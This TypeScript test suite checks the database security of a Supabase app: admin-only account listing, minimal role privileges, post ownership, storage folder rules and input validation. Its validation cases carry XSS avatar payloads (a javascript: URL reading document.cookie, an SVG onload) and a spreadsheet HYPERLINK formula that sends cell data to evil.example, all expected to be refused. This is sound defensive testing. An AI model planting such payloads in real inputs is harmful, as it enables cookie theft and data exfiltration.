import { randomUUID } from 'node:crypto';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import {
  createTestAccount,
  deleteAuthUser,
  insertLinkedinUser,
  type LinkedinTestUser,
} from '../helpers/db.ts';
import { DEMO_ADMIN_ID } from '../helpers/seed-ids.ts';
import { anonClient, clientAs, signUserJwt, type TestClient } from '../helpers/supabase.ts';

const apiUrl = inject('apiUrl');
const db = new pg.Client({ connectionString: inject('dbUrl') });
const anon = anonClient(apiUrl);

let adminId: string;
let memberId: string;
let admin: TestClient;
let member: TestClient;
let linkedin: LinkedinTestUser;
let linkedinClient: TestClient;

beforeAll(async () => {
  await db.connect();
  const adminAccount = await createTestAccount(db, { admin: true, label: 'secdb' });
  const memberAccount = await createTestAccount(db, { admin: false, label: 'secdb' });
  adminId = adminAccount.id;
  memberId = memberAccount.id;
  admin = clientAs(apiUrl, adminAccount.jwt);
  member = clientAs(apiUrl, memberAccount.jwt);
  linkedin = await insertLinkedinUser(inject('dbUrl'), 'secdb');
  linkedinClient = clientAs(apiUrl, await signUserJwt(linkedin.id, linkedin.email));
});

afterAll(async () => {
  await db.query('delete from auth.users where id = any($1::uuid[])', [[adminId, memberId]]);
  await deleteAuthUser(inject('dbUrl'), linkedin.id);
  await db.end();
});

describe('team accounts come from an admin-only function, never a view over auth.users', () => {
  it('the view is gone', async () => {
    const { rows } = await db.query(`select to_regclass('public.team_accounts') as view`);
    expect(rows).toEqual([{ view: null }]);
  });

  it('visitors, signed-in e-mail accounts and LinkedIn members are refused', async () => {
    for (const client of [anon, member, linkedinClient]) {
      const { data, error } = await client.rpc('list_team_accounts');
      expect(data).toBeNull();
      expect(error?.code).toBe('42501');
    }
  });

  it('admins get the e-mail accounts with the Team screen fields only', async () => {
    const { data, error } = await admin
      .rpc('list_team_accounts')
      .in('id', [DEMO_ADMIN_ID, adminId, memberId, linkedin.id]);
    expect(error).toBeNull();
    expect(data?.map((a) => a.id).sort()).toEqual([DEMO_ADMIN_ID, adminId, memberId].sort());
    for (const account of data ?? []) {
      expect(Object.keys(account).sort()).toEqual(
        [
          'created_at',
          'email',
          'email_confirmed_at',
          'id',
          'invited_at',
          'is_admin',
          'last_sign_in_at',
          'role',
        ].sort(),
      );
    }
    expect(data?.find((a) => a.id === memberId)?.is_admin).toBe(false);
    expect(data?.find((a) => a.id === adminId)?.is_admin).toBe(true);
    expect(data?.find((a) => a.id === adminId)?.role).toBe('admin');
    expect(data?.find((a) => a.id === memberId)?.role).toBeNull();
  });

  it('the list filters, sorts, pages and counts it like a table (GET under /rpc)', async () => {
    const { data, error, count } = await admin
      .rpc('list_team_accounts', undefined, { get: true, count: 'exact' })
      .ilike('email', 'secdb-%')
      .order('email', { ascending: true })
      .range(0, 0);
    expect(error).toBeNull();
    expect(count).toBe(2);
    expect(data?.map((a) => a.id)).toEqual([adminId]);
  });
});

describe('the API roles hold only the privileges PostgREST uses', () => {
  it('anon and authenticated have no TRUNCATE, TRIGGER, REFERENCES or MAINTAIN on any table or view', async () => {
    const { rows } = await db.query(
      `select c.relname, r.role, p.privilege
         from pg_class c
        cross join (values ('anon'), ('authenticated')) r (role)
        cross join unnest(array['TRUNCATE', 'TRIGGER', 'REFERENCES']
                   || case when current_setting('server_version_num')::int >= 170000
                           then array['MAINTAIN'] else '{}' end) p (privilege)
        where c.relnamespace = 'public'::regnamespace and c.relkind in ('r', 'p', 'v', 'm')
          and has_table_privilege(r.role, c.oid, p.privilege)`,
    );
    expect(rows).toEqual([]);
    const grants = await db.query(
      `select table_name, grantee, privilege_type from information_schema.role_table_grants
        where table_schema = 'public' and grantee in ('anon', 'authenticated')
          and privilege_type not in ('SELECT', 'INSERT', 'UPDATE', 'DELETE')`,
    );
    expect(grants.rows).toEqual([]);
  });

  it('a role may write a table only where a policy lets it', async () => {
    const { rows } = await db.query(
      `select c.relname, r.role, p.privilege
         from pg_class c
        cross join (values ('anon'), ('authenticated')) r (role)
        cross join (values ('INSERT', 'a'), ('UPDATE', 'w'), ('DELETE', 'd')) p (privilege, cmd)
        where c.relnamespace = 'public'::regnamespace and c.relkind = 'r'
          and has_table_privilege(r.role, c.oid, p.privilege)
          and not exists (
            select 1 from pg_policy pol
             where pol.polrelid = c.oid and pol.polcmd in (p.cmd, '*')
               and (pol.polroles @> array[r.role::regrole::oid] or pol.polroles = array[0::oid]))`,
    );
    expect(rows).toEqual([]);
  });

  it('tables created later in public get data privileges only', async () => {
    await db.query('begin');
    try {
      await db.query('create table public.default_privileges_probe (id integer)');
      const { rows } = await db.query(
        `select r.role, p.privilege, has_table_privilege(r.role, 'public.default_privileges_probe', p.privilege) as held
           from (values ('anon'), ('authenticated')) r (role)
          cross join (values ('SELECT'), ('INSERT'), ('UPDATE'), ('DELETE'), ('TRUNCATE'), ('TRIGGER'),
                             ('REFERENCES')) p (privilege)
          order by 1, 2`,
      );
      for (const row of rows) {
        expect(row.held, `${row.role} ${row.privilege}`).toBe(
          ['SELECT', 'INSERT', 'UPDATE', 'DELETE'].includes(row.privilege),
        );
      }
    } finally {
      await db.query('rollback');
    }
  });
});

describe('visitors never read the ids of admin accounts', () => {
  it('no column that references auth.users is readable by anon', async () => {
    const { rows } = await db.query(
      `select c.conrelid::regclass::text as "table", a.attname as "column"
         from pg_constraint c
         join pg_attribute a on a.attrelid = c.conrelid and a.attnum = any(c.conkey)
        where c.contype = 'f' and c.confrelid = 'auth.users'::regclass
          and c.connamespace = 'public'::regnamespace
          and has_column_privilege('anon', c.conrelid, a.attnum, 'SELECT')`,
    );
    expect(rows).toEqual([]);
  });

  it.each(['posts', 'events', 'videos'] as const)(
    'anon asking for %s.author_id is refused',
    async (table) => {
      const { data, error } = await anon.from(table).select('id, author_id').limit(1);
      expect(data).toBeNull();
      expect(error?.code).toBe('42501');
      const star = await anon.from(table).select('*').limit(1);
      expect(star.error?.code).toBe('42501');
    },
  );

  it('anon still reads the public columns and landing pages', async () => {
    const posts = await anon.from('posts').select('id, title, slug, excerpt, cover_image_url, published_at');
    expect(posts.error).toBeNull();
    expect(posts.data?.length).toBeGreaterThan(0);
    const pages = await anon.from('landing_pages').select('*');
    expect(pages.error).toBeNull();
    expect(pages.data?.length).toBeGreaterThan(0);
  });
});

describe('posts belong to their author; videos are team-wide', () => {
  const tag = randomUUID().slice(0, 8);
  const DEMO_POST_ID = 'd0000000-0000-4000-8000-000000000001';
  const DEMO_COVER = 'blog/jornada-do-cliente.jpg';
  const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3, 4]);

  async function demoPost() {
    const { rows } = await db.query('select title, author_id, updated_at from public.posts where id = $1', [
      DEMO_POST_ID,
    ]);
    return rows[0] as { title: string; author_id: string; updated_at: Date };
  }

  it("another admin reads the demo admin's posts but cannot change or delete them", async () => {
    const before = await demoPost();
    expect(before.author_id).toBe(DEMO_ADMIN_ID);
    const read = await admin.from('posts').select('id, author_id').eq('id', DEMO_POST_ID).single();
    expect(read.error).toBeNull();
    expect(read.data).toEqual({ id: DEMO_POST_ID, author_id: DEMO_ADMIN_ID });

    const updated = await admin.from('posts').update({ title: 'Tomado' }).eq('id', DEMO_POST_ID).select();
    expect(updated.error !== null || updated.data?.length === 0).toBe(true);
    const deleted = await admin.from('posts').delete().eq('id', DEMO_POST_ID).select();
    expect(deleted.error !== null || deleted.data?.length === 0).toBe(true);
    expect(await demoPost()).toEqual(before);
  });

  it('an admin cannot write a post in another author’s name, nor hand its own over', async () => {
    const forged = await admin
      .from('posts')
      .insert({ type: 'blog', title: 'Em nome de outro', slug: `outro-${tag}`, author_id: DEMO_ADMIN_ID })
      .select();
    expect(forged.error?.code).toBe('42501');

    const own = await admin
      .from('posts')
      .insert({ type: 'blog', title: 'Meu post', slug: `meu-${tag}` })
      .select('id, author_id')
      .single();
    expect(own.error).toBeNull();
    expect(own.data?.author_id).toBe(adminId);
    const handed = await admin.from('posts').update({ author_id: DEMO_ADMIN_ID }).eq('id', own.data!.id);
    expect(handed.error?.code).toBe('42501');
    const edited = await admin.from('posts').update({ status: 'published' }).eq('id', own.data!.id).select();
    expect(edited.error).toBeNull();
    expect(edited.data).toHaveLength(1);
    const removed = await admin.from('posts').delete().eq('id', own.data!.id).select('id');
    expect(removed.data).toEqual([{ id: own.data!.id }]);
  });

  it("videos stay team-wide: another admin updates the demo admin's video by id", async () => {
    const { rows } = await db.query(
      `select id, title from public.videos where author_id = $1 order by created_at limit 1`,
      [DEMO_ADMIN_ID],
    );
    const video = rows[0] as { id: string; title: string };
    const { data, error } = await admin
      .from('videos')
      .update({ title: video.title })
      .eq('id', video.id)
      .select('id');
    expect(error).toBeNull();
    expect(data).toEqual([{ id: video.id }]);
  });

  it('post covers: an admin writes under its own folder only', async () => {
    const bucket = admin.storage.from('post-covers');
    const own = `${adminId}/${Date.now()}-capa-${tag}.png`;
    expect((await bucket.upload(own, png, { contentType: 'image/png' })).error).toBeNull();

    const foreign = `${DEMO_ADMIN_ID}/${Date.now()}-capa-${tag}.png`;
    const refused = await bucket.upload(foreign, png, { contentType: 'image/png' });
    expect(refused.error).not.toBeNull();
    await bucket.remove([DEMO_COVER]);

    const { rows } = await db.query(
      `select name from storage.objects where bucket_id = 'post-covers' and name = any($1) order by name`,
      [[own, foreign, DEMO_COVER]],
    );
    expect(rows.map((r) => r.name)).toEqual([own, DEMO_COVER].sort());
    expect((await bucket.remove([own])).error).toBeNull();
  });
});

describe('track_user_login_with_profile bounds what reaches the public showcase', () => {
  const valid = () => ({
    provider_name: 'linkedin_oidc',
    linkedin_id: linkedin.sub,
    full_name: 'Pessoa Segura',
    email: linkedin.email,
    avatar_url: 'https://media.example.com.br/segura.jpg',
    profile_data: { sub: linkedin.sub },
  });

  it.each([
    ['a javascript: avatar', { avatar_url: 'javascript:alert(document.cookie)' }],
    ['a data: avatar', { avatar_url: 'data:image/svg+xml,<svg onload=alert(1)>' }],
    ['an avatar longer than 2048 characters', { avatar_url: `https://x.example.com/${'a'.repeat(2100)}` }],
    ['a name longer than 200 characters', { full_name: 'N'.repeat(201) }],
    ['a profile larger than 16 KB', { profile_data: { blob: 'x'.repeat(20_000) } }],
  ])('refuses %s and leaves the member row untouched', async (_label, patch) => {
    const { error } = await linkedinClient.rpc('track_user_login_with_profile', { ...valid(), ...patch });
    expect(error?.code).toBe('22023');
    const { rows } = await db.query('select 1 from public.members where id = $1', [linkedin.id]);
    expect(rows).toHaveLength(0);
  });

  it('still records a normal LinkedIn profile', async () => {
    const { data, error } = await linkedinClient.rpc('track_user_login_with_profile', valid());
    expect(error).toBeNull();
    expect(data).toMatchObject({
      id: linkedin.id,
      full_name: 'Pessoa Segura',
      avatar_url: 'https://media.example.com.br/segura.jpg',
    });
  });
});

describe('subscribe_newsletter input', () => {
  const emails: string[] = [];
  afterAll(async () => {
    await db.query('delete from public.newsletter_subscribers where email = any($1::text[])', [emails]);
  });

  it.each([
    ['a spreadsheet formula as source', 'ok', '=HYPERLINK("https://evil.example/?"&A1;"abrir")'],
    ['a source with spaces and markup', 'ok', '<b>home</b> page'],
    ['an address starting with a formula character', '=1+2', 'site'],
    ['an address with a control character', 'tab\u0007', 'site'],
    ['a megabyte-long address', 'a'.repeat(1_000_000), 'site'],
  ])('refuses %s', async (_label, local, source) => {
    const email = `${local}-${randomUUID().slice(0, 8)}@example.com.br`.toLowerCase();
    emails.push(email);
    const { error } = await anon.rpc('subscribe_newsletter', { _email: email, _source: source });
    expect(error?.code).toBe('22023');
    const { rows } = await db.query('select 1 from public.newsletter_subscribers where email = $1', [email]);
    expect(rows).toHaveLength(0);
  });

  it('accepts a normal address with a slug source', async () => {
    const email = `leitora.${randomUUID().slice(0, 8)}@example.com.br`;
    emails.push(email);
    const { error } = await anon.rpc('subscribe_newsletter', { _email: email, _source: 'newsletter-page' });
    expect(error).toBeNull();
    const { rows } = await db.query('select source from public.newsletter_subscribers where email = $1', [
      email,
    ]);
    expect(rows).toEqual([{ source: 'newsletter-page' }]);
  });
});
